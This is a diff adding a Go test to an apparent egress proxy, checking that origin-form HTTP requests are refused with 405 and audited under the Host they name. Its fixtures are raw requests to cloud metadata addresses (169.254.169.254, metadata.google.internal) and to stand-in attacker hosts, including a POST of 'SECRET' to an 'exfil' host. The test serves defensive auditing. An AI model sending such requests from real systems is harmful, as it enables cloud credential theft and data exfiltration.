@@ -58,3 +58,24 @@ func waitHostRawEnding(t *testing.T, e *env, field, end string) string {
 		}
 	}
 }
+
+// TestOriginFormRequestIsAuditedWithTheHostItNamed is issue 18's seventh
+// review, finding 1: "GET / HTTP/1.1" with the destination only in Host:
+// was audited as host_raw "/", so the metadata address or a C2 name it
+// tried was in no record, and every such attempt folded under "/". The
+// record names the Host (escaped) and keeps the path apart.
+func TestOriginFormRequestIsAuditedWithTheHostItNamed(t *testing.T) {
+	e := newEnv(t, withFoldWindow(time.Hour))
+	for _, c := range []struct{ head, host, path string }{
+		{"GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "169.254.169.254", "/"},
+		{"GET /latest/meta-data?x=1 HTTP/1.1\r\nHost: metadata.google.internal\r\n\r\n", "metadata.google.internal", "/latest/meta-data"},
+		{"OPTIONS * HTTP/1.1\r\nHost: secret-c2-four.evil.example\r\n\r\n", "secret-c2-four.evil.example", "*"},
+		{"POST / HTTP/1.1\r\nHost: exfil.evil.example\r\nContent-Length: 6\r\n\r\nSECRET", "exfil.evil.example", "/"},
+	} {
+		resp := rawRequest(t, e.addr, c.head)
+		if resp.StatusCode != http.StatusMethodNotAllowed {
+			t.Fatalf("%q: %s", c.head, resp.Status)
+		}
+		e.log.waitEvent(t, map[string]any{"event": "connect", "reason": "method_not_allowed", "host_raw": c.host, "path": c.path})
+	}
+}
